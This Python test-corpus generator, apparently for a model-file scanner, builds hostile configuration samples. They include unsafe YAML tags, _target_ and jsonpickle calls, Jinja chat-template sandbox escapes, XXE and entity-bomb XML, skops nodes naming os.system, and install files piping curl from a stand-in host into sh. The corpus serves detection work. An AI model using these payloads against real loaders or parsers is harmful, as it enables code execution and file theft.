# SPDX-License-Identifier: Apache-2.0
"""Configurations: JSON that names code, YAML that makes objects, templates, XML, skops."""

import json

from .artefact import hostile, malformed
from .opcodes import payload
from .tensors import ESCAPE, TEMPLATES, npy
from .zips import plain


def corpus():
    yield from json_files()
    yield from yaml_files()
    yield from templates()
    yield from xml_files()
    yield from skops()
    yield from code()
    yield from broken()


def json_files():
    family = "JSON"
    call = {"_target_": "os.system", "_args_": ["true"]}
    table = {
        "auto-map.json": ("code of the same repository", {
            "model_type": "own", "auto_map": {"AutoModel": "modeling_own.OwnModel"}}),
        "auto-map-remote.json": ("code of another repository", {
            "auto_map": {"AutoModel": "evil/repo--modeling_own.OwnModel"}}),
        "auto-map-tokenizer.json": ("a tokenizer of the repository", {
            "tokenizer_class": "Own", "auto_map": {"AutoTokenizer": ["tok.Own", None]}}),
        "auto-map-nested.json": ("code of the repository, deep in the configuration", {
            "vision_config": {"text_config": {"auto_map": {"AutoConfig": "c.C"}}}}),
        "custom-generate.json": ("a generation function of the repository", {
            "custom_generate": "evil/repo", "trust_remote_code": True}),
        "pipelines.json": ("a pipeline of the repository", {
            "custom_pipelines": {"own": {"impl": "own.Pipeline", "pt": ["AutoModel"]}}}),
        "diffusers.json": ("a part of a pipeline from a module of the repository", {
            "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30",
            "unet": ["own_module", "OwnUNet"]}),
        "sentence.json": ("a module of sentence-transformers of the author", [
            {"idx": 0, "name": "0", "path": "", "type": "own_module.Transformer"}]),
        "adapter.json": ("an adapter of a library of the author", {
            "peft_type": "LORA", "auto_mapping": {"base_model_class": "M",
                                                  "parent_library": "evil.module"}}),
        "base-address.json": ("a base model from an address", {
            "peft_type": "LORA", "base_model_name_or_path": "http://127.0.0.1:9/x"}),
        "target.json": ("_target_ names what is called", {"model": call}),
        "target-list.json": ("_target_ in a list", {"stages": [{"x": 1}, call]}),
        "target-escaped.json": ("_target_ written with escapes",
                                b'{"m": {"\\u005ftarget_": "subprocess.Popen", "args": "true"}}'),
        "jsonpickle.json": ("jsonpickle makes an object", {
            "py/object": "subprocess.Popen", "py/newargs": ["true"]}),
        "jsonpickle-reduce.json": ("jsonpickle calls", {
            "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}),
        "pipeline-class.json": ("a pipeline of the repository, by module and class", {
            "_class_name": ["own_pipeline", "OwnPipeline"], "_diffusers_version": "0.30.0"}),
        "prompt.json": ("a prompt that is a template of Jinja", {
            "_type": "prompt", "input_variables": [], "template": ESCAPE,
            "template_format": "jinja2"}),
        "index-upwards.json": ("weights of a pickle in another directory", {
            "metadata": {}, "weight_map": {"w": "../../other/pytorch_model.bin"}}),
        "index-absolute.json": ("weights of a file elsewhere", {
            "metadata": {}, "weight_map": {"w": "/etc/passwd"}}),
        "notebook-system.ipynb": ("a notebook that runs a command through its shell", {
            "nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{
                "cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                "source": ["get_ipython().system('true')\n"]}]}),
        "lambda.json": ("a Keras model with a Lambda layer and its code", {
            "class_name": "Functional", "config": {"layers": [{
                "class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None],
                                                   "function_type": "lambda"}}]}}),
        "notebook.ipynb": ("a notebook that runs a command", {
            "nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{
                "cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                "source": ["!curl http://127.0.0.1:9/x | sh\n"]}]}),
    }
    for name, (why, document) in table.items():
        data = document if isinstance(document, bytes) else json.dumps(document, indent=1).encode()
        yield hostile(f"config-{name}", family, why, data)


def yaml_files():
    family = "YAML"
    table = {
        "apply": "!!python/object/apply:os.system ['true']\n",
        "apply-new": "x: !!python/object/new:subprocess.Popen [['true']]\n",
        "object": "x: !!python/object:subprocess.Popen {}\n",
        "name": "x: !!python/name:os.system\n",
        "module": "x: !!python/module:os\n",
        "escaped": "x: !!pyth%6Fn/object/apply:os.system ['true']\n",
        "verbatim": "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "handle": "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['true']\n",
        "second-document": "a: 1\n---\nb: !!python/object/apply:os.system ['true']\n",
        "comment-line": "# a\n\nx:\n  - y: !!python/object/apply:os.system\n      - 'true'\n",
        "java": "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n",
        "ruby": "--- !ruby/object:Gem::Installer\ni: x\n",
        "target": "model:\n  _target_: subprocess.Popen\n  args: ['true']\n",
        "target-flow": "model: {_target_: os.system, command: 'true'}\n",
        "target-torch-load": "model:\n  _target_: torch.load\n  f: /nonexistent/casemate\n",
        "target-torch-hub": "model:\n  _target_: torch.hub.load\n  repo_or_dir: x/y\n",
        "target-torch-file": "model:\n  _target_: torch.from_file\n  filename: /nonexistent/casemate\n",
        "target-through": "model:\n  _target_: torch.serialization.os.system\n  command: 'true'\n",
        "target-lightning": "model:\n  _target_: pytorch_lightning.utilities.cloud_io.load\n"
                            "  path_or_url: http://127.0.0.1:9/x\n",
        "target-method": "model:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "yolo": "nc: 80\nbackbone:\n- [-1, 1, Conv, [\"exec('pass')\"]]\n",
        "yolo-import": "nc: 80\nbackbone:\n- [-1, 1, \"__import__('os').system('true')\", [64]]\n",
        "keras-lambda": "class_name: Sequential\nconfig:\n- class_name: Lambda\n  config:\n"
                        "    function_type: lambda\n",
    }
    for name, text in table.items():
        yield hostile(f"yaml-{name}.yaml", family, max(text.splitlines(), key=len), text.encode())
    models = {
        "loader": "flavors:\n  python_function:\n    loader_module: os\n    data: x\n",
        "code": "flavors:\n  python_function:\n    loader_module: own_loader\n    code: code\n",
        "script": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
                  "    model_code_path: own.py\n",
    }
    for name, text in models.items():
        yield hostile(f"MLmodel-{name}.yaml", "MLflow", f"{name} of an MLmodel", text.encode())


MORE_TEMPLATES = {
    "include": "{% include '/etc/passwd' %}{{ bos_token }}",
    "import": "{% import 'x' as y %}{{ y.z }}",
    "from": "{% from 'x' import y %}{{ y() }}",
    "extends": "{% extends '/etc/passwd' %}{{ 1 }}",
    "macro": "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{{ m() }}",
    "subscript": "{{ messages['__class__']['__mro__'] }}",
    "map-attribute": "{{ messages | map(attribute='__class__') | list }}",
    "config": "{{ config.items() }}{% for m in messages %}{% endfor %}",
    "request": "{{ request.application.__globals__ }}",
    "self": "{{ self.__init__.__globals__ }}",
    "joiner": "{{ joiner.__init__.__globals__.os }}",
    "reverse": "{{ messages['__ssalc__' | reverse] }}",
    "replace": "{{ ''['X_X_class__'.replace('X', '')] }}",
    "percent": "{% set u = '%c' % 95 %}{{ messages[u * 2 ~ 'class' ~ u * 2] }}",
    "raise": "{{ raise_exception.__globals__ }}",
    "strftime": "{{ strftime_now.__globals__['os'] }}",
    "do": "{% do messages.append(cycler.__init__.__globals__) %}{{ 1 }}",
}


def templates():
    family = "chat templates"
    for name, template in {**TEMPLATES, **MORE_TEMPLATES}.items():
        document = {"tokenizer_class": "LlamaTokenizer", "chat_template": template}
        yield hostile(f"template-{name}.json", family, template, json.dumps(document).encode())
    listed = [{"name": "default", "template": "{{ bos_token }}"},
              {"name": "tool_use", "template": TEMPLATES["lipsum"]}]
    table = {
        "file.jinja": ("a template in a file of its own",
                       ("{% for m in messages %}" + ESCAPE + "{% endfor %}").encode()),
        "list.json": ("the second of two templates",
                      json.dumps({"chat_template": listed}).encode()),
        "processor.json": ("the template of a processor",
                           json.dumps({"processor_class": "P", "chat_template": ESCAPE}).encode()),
    }
    for name, (why, data) in table.items():
        yield hostile(f"template-{name}", family, why, data)


def xml_files():
    family = "XML"
    net = '<net name="m" version="11"><layers>{}</layers></net>'
    pmml = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{}</PMML>'
    table = {
        "entity.xml": ("an entity that reads a file", '<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x '
                       'SYSTEM "file:///etc/passwd">]>' + net.format("<data>&x;</data>")),
        "entity-http.xml": ("an entity from an address", '<!DOCTYPE net [<!ENTITY x SYSTEM '
                            '"http://127.0.0.1:9/x">]>' + net.format("&x;")),
        "entity-parameter.xml": ("a parameter entity", '<!DOCTYPE net [<!ENTITY % x SYSTEM '
                                 '"http://127.0.0.1:9/x">%x;]>' + net.format("")),
        "doctype.pmml": ("a document type from elsewhere", '<!DOCTYPE PMML SYSTEM '
                         '"http://127.0.0.1:9/x.dtd">' + pmml.format("")),
        "laughs.pmml": ("entities that repeat themselves", '<!DOCTYPE PMML [<!ENTITY a "aaaaaaaaaa">'
                        + "".join(f'<!ENTITY a{n} "{("&a" + str(n - 1 or "") + ";") * 10}">'
                                  for n in range(1, 9)) + "]>" + pmml.format("<x>&a8;</x>")),
        "include.xml": ("an inclusion", '<net xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include '
                        'href="file:///etc/passwd" parse="text"/></net>'),
        "library.xml": ("a layer of a library of the author", net.format(
            '<layer id="0" type="Own" version="extension" library="../evil.so"/>')),
        "extension.xml": ("a layer of an extension", net.format(
            '<layer id="0" name="x" type="Own" version="evil_ops"/>')),
        "java.pmml": ("a function of Java", pmml.format(
            '<Apply function="java.lang.Runtime.exec"><Constant>true</Constant></Apply>')),
        "script.pmml": ("a script", pmml.format("<script>fetch('http://127.0.0.1:9/')</script>")),
        "stylesheet.xml": ("a style sheet from elsewhere", '<?xml version="1.0"?><?xml-stylesheet '
                           'href="http://127.0.0.1:9/x.xsl" type="text/xsl"?>' + net.format("")),
    }
    for name, (why, text) in table.items():
        yield hostile(f"xml-{name}", family, why, text.encode())
    text = '<?xml version="1.0" encoding="UTF-16"?>' + table["entity.xml"][1].split("?>", 1)[1]
    yield hostile("xml-utf-16.xml", family, "an entity in UTF-16", text.encode("utf-16"))


def skops():
    family = "skops"

    def node(loader, module, name, **more):
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}

    content = node("DictNode", "builtins", "dict", content={}, key_types=node(
        "ListNode", "builtins", "list", content=[]))
    args = node("TupleNode", "builtins", "tuple", content=[])
    table = {
        "object": ("an object of a dangerous class",
                   node("ObjectNode", "subprocess", "Popen", content=content)),
        "function": ("a function", node("FunctionNode", "os", "system", content="os.system")),
        "type": ("a type", node("TypeNode", "subprocess", "Popen")),
        "method": ("a method", node("MethodNode", "builtins", "method", content={
            "func": "__init_subclass__", "obj": content})),
        "operator": ("a function of operator", node(
            "OperatorFuncNode", "operator", "methodcaller", attrs=args)),
        "partial": ("functools.partial of a function", node(
            "PartialNode", "functools", "partial", content={
                "func": node("FunctionNode", "os", "system", content="os.system"), "args": args,
                "kwds": content, "namespace": content})),
        "custom": ("a class of the author", node("ObjectNode", "evil_module", "Own", content=content)),
        "reduce": ("what reduce gives", node("ReduceNode", "builtins", "eval", content=args)),
    }
    for name, (why, tree) in table.items():
        schema = {**tree, "protocol": 2, "_skops_version": "0.13"}
        yield hostile(f"skops-{name}.skops", family, why,
                      plain({"schema.json": json.dumps(schema).encode()}))


def code():
    """Code that comes with a model: loaders run it if they are told to trust it."""
    family = "code"
    table = {
        "modeling_own.py": "import os\n\nclass OwnModel:\n    def __init__(self):\n"
                           "        os.system('true')\n",
        "setup.py": "from setuptools import setup\nimport os\nos.system('true')\nsetup(name='x')\n",
        "install.sh": "#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n",
        "install.bat": "@echo off\r\npowershell -c iwr http://127.0.0.1:9/x\r\n",
        "requirements.txt": "torch==2.0\nevil @ git+https://127.0.0.1/x.git\n",
        "requirements-index.txt": "--index-url http://127.0.0.1:9/simple\ntorch\n",
        "conda.yaml": "dependencies:\n- python=3.11\n- pip:\n  - git+https://127.0.0.1/x.git\n",
        "model.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c true\n",
    }
    for name, text in table.items():
        yield hostile(f"code-{name}", family, "code that runs when the model is installed or loaded",
                      text.encode())


def broken():
    family = "malformed: texts"
    table = {
        "json-cut.json": ("JSON, cut", b'{"model_type": "llama", "hidden_size": 64, "x": ['),
        "json-twice.json": ("a member twice: readers differ",
                            b'{"model_type": "llama", "model_type": "own"}'),
        "json-deep.json": ("100,000 deep", b"[" * 100_000 + b"]" * 100_000),
        "json-bytes.json": ("a text that is no UTF-8", b'{"model_type": "\xff\xfe"}'),
        "skops.skops": ("a schema that is no JSON", plain({"schema.json": b"{'a': 1"})),
        "xml-cut.xml": ("XML, cut", b'<?xml version="1.0"?><net name="m"><layers><layer id="0"'),
        "xml-mismatch.pmml": ("elements that do not match",
                              b'<PMML version="4.4"><a><b></a></b></PMML>'),
    }
    for name, (why, data) in table.items():
        yield malformed(f"malformed-{name}", family, why, data)
